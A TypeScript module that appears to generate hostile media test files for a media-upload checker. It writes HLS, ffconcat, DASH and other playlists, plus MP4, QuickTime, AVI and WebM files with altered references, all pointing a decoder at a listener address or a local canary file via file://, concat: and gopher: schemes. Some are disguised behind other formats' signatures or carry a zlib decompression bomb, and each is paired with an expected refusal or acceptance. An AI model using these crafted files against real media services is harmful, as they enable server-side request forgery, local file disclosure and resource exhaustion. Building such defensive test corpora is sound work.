import { box, fullBox, join, riff, text, u16le, u32, u32le, zlibZeros } from './bytes.ts';
import { made } from './pictures.ts';
import { ANY, REFUSED, type Bases, type Expected, type Hostile, type Targets } from './types.ts';

const TYPE: readonly Expected[] = ['asset.type'];

/** Texts that a reader of video takes for directions to other files, under innocent names. */
export function playlists(bases: Bases, { listener, canary }: Targets): Hostile[] {
  const hls = (...addresses: readonly string[]): Buffer =>
    text(
      `#EXTM3U\n#EXT-X-TARGETDURATION:10\n${addresses.map((address) => `#EXTINF:10,\n${address}\n`).join('')}#EXT-X-ENDLIST\n`,
    );
  const file = `file://${canary}`;
  const lists: Readonly<Record<string, Buffer>> = {
    'hls of the net': hls(`${listener}/a.ts`),
    'hls of the disk': hls(file, canary),
    'hls joining both': hls(`concat:${canary}|${listener}/a.ts`),
    'hls with a key': text(`#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${listener}/key"\n#EXTINF:1,\n${file}\n`),
    'hls with a map': text(`#EXTM3U\n#EXT-X-MAP:URI="${file}"\n#EXTINF:1,\n${listener}/a.mp4\n`),
    'hls behind a byte order mark': join('\xef\xbb\xbf', hls(`${listener}/a.ts`)),
    'hls of several rungs': text(`#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${listener}/b.m3u8\n`),
    'hls of protocols': hls(
      `gopher://127.0.0.1/`,
      `subfile,,start,0,end,64,,:${canary}`,
      'crypto:a',
      'data:a',
    ),
    ffconcat: text(`ffconcat version 1.0\nfile '${canary}'\nfile '${listener}/a'\n`),
    concat: text(`file '${canary}'\nduration 1\nfile '${listener}/a'\n`),
    'mpeg-dash': text(
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>${listener}/</BaseURL><Period><AdaptationSet><Representation id="1"><BaseURL>${file}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ),
    sdp: text(`v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n`),
    asx: text(`<asx version="3.0"><entry><ref href="${listener}/a"/></entry></asx>`),
    pls: text(`[playlist]\nFile1=${listener}/a\nNumberOfEntries=1\n`),
    xspf: text(
      `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>${file}</location></track></trackList></playlist>`,
    ),
    smil: text(`<smil><body><video src="${listener}/a"/></body></smil>`),
    'a redirecting reference': text(`[Reference]\nRef1=${listener}/a\n`),
    rtsp: text(`rtsptext\nrtsp://127.0.0.1/a\n`),
    vobsub: text(`# VobSub index file, v7\n# sub: ${canary}\n`),
    'ffmpeg metadata': text(`;FFMETADATA1\ntitle=a\n`),
  };
  const endings = ['mp4', 'mov', 'jpg', 'mp3', 'avi', 'mkv'];
  return [
    ...Object.entries(lists).map(([about, bytes], i) =>
      made(`playlist: ${about}`, `list-${i}.${endings[i % endings.length] ?? 'mp4'}`, bytes, TYPE),
    ),
    ...disguised(bases, { listener, canary }),
  ];
}

/** Playlists and references inside, or behind the signature of, what we take. */
function disguised(bases: Bases, { listener, canary }: Targets): Hostile[] {
  const hls = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n${listener}/a.ts\n#EXTINF:10,\nfile://${canary}\n#EXT-X-ENDLIST\n`;
  const mp4 = bases.get('mp4') ?? Buffer.alloc(0);
  const dref = (entry: Buffer): Buffer => replaceDref(mp4, entry);
  const url = (address: string): Buffer => fullBox('url ', 0, address, '\0');
  const alias = fullBox('alis', 0, u32(0), Buffer.alloc(140, 1), canary);
  const reference = (address: string): Buffer =>
    join(
      box('ftyp', 'qt  ', u32(0), 'qt  '),
      box('moov', box('rmra', box('rmda', fullBox('rdrf', 0, 'url ', u32(address.length), address)))),
    );
  const compressed = zlibZeros(2);
  return [
    made(
      'MP3 tag in front of a playlist',
      'tagged.mp3',
      join('ID3\x04\0\0\0\0\0\x0a', Buffer.alloc(10), hls),
      REFUSED,
    ),
    made(
      'MP4 header in front of a playlist',
      'headed.mp4',
      join(box('ftyp', 'isom', u32(0), 'isom'), hls),
      REFUSED,
    ),
    made('padding in front of a playlist', 'padded.mov', join(box('wide'), box('mdat', hls)), REFUSED),
    made('Ogg in front of a playlist', 'page.ogg', join('OggS\0\x02', Buffer.alloc(21), hls), REFUSED),
    made('AVI with a playlist for subtitles', 'gab2.avi', gab2(bases, hls), ANY),
    made('MP4 whose data lie at an address', 'dref-net.mp4', dref(url(`${listener}/a.mp4`)), ANY),
    made('MP4 whose data lie in another file', 'dref-file.mp4', dref(url(`file://${canary}`)), ANY),
    made('MP4 whose data lie behind an alias', 'alias.mov', dref(alias), ANY),
    made('QuickTime that refers to an address', 'rmra-net.mov', reference(`${listener}/a.mov`), REFUSED),
    made('QuickTime that refers to a file', 'rmra-file.mov', reference(`file://${canary}`), REFUSED),
    made(
      'QuickTime with an index of 100 MB in 100 kB',
      'cmov.mov',
      join(
        box('ftyp', 'qt  ', u32(0), 'qt  '),
        box('moov', box('cmov', box('dcom', 'zlib'), box('cmvd', u32(100_000_000), compressed))),
      ),
      REFUSED,
    ),
    made(
      'WAV of a playlist',
      'list.wav',
      riff(
        'RIFF',
        'WAVE',
        riff('fmt ', join(u16le(1), u16le(1), u32le(8_000), u32le(8_000), u16le(1), u16le(8))),
        riff('data', hls),
      ),
      ANY,
    ),
    made('WebM that links to its next part', 'linked.webm', linkedMatroska(bases.get('webm'), listener), ANY),
  ];
}

/** Puts another entry in place of every data reference of an MP4. The index stands behind the data, so nothing moves. */
function replaceDref(mp4: Buffer, entry: Buffer): Buffer {
  const moov = mp4.indexOf('moov', 0, 'latin1') - 4;
  if (moov < 0) return mp4;
  const widen = (bytes: Buffer): Buffer => {
    const parts: Buffer[] = [];
    for (let at = 0; at + 8 <= bytes.length;) {
      const size = Math.max(8, bytes.readUInt32BE(at));
      const type = bytes.toString('latin1', at + 4, at + 8);
      const body = bytes.subarray(at + 8, at + size);
      if (type === 'dref') parts.push(fullBox('dref', 0, u32(1), entry));
      else
        parts.push(
          ['moov', 'trak', 'mdia', 'minf', 'dinf'].includes(type)
            ? box(type, widen(body))
            : bytes.subarray(at, at + size),
        );
      at += size;
    }
    return Buffer.concat(parts);
  };
  return join(mp4.subarray(0, moov), widen(mp4.subarray(moov)));
}

/** An AVI with a stream of subtitles in the format GAB2, whose content ffmpeg looks into by itself. */
function gab2(bases: Bases, playlist: string): Buffer {
  const avi = bases.get('avi') ?? Buffer.alloc(0);
  const content = join('GAB2\0', u16le(2), u32le(4), 'a\0\0\0', u16le(4), u32le(playlist.length), playlist);
  const header = join(
    'txts',
    Buffer.alloc(16),
    u32le(1),
    u32le(25),
    Buffer.alloc(4),
    u32le(1),
    Buffer.alloc(20),
  );
  const stream = riff('LIST', 'strl', riff('strh', header), riff('strf', Buffer.alloc(4)));
  const at = avi.indexOf('LIST', avi.indexOf('strl'), 'latin1');
  return at < 0 ? avi : join(avi.subarray(0, at), stream, riff('01tx', content), avi.subarray(at));
}

/** A segment that names a next one by its file. */
function linkedMatroska(webm: Buffer | undefined, listener: string): Buffer {
  const bytes = webm ?? Buffer.alloc(0);
  const info = bytes.indexOf(Buffer.from([0x15, 0x49, 0xa9, 0x66]));
  const name = `${listener}/next.webm`;
  const element = join(Buffer.from([0x3e, 0x83, 0xbb, 0x80 | name.length]), name);
  return info < 0 ? bytes : join(bytes.subarray(0, info), element, bytes.subarray(info));
}
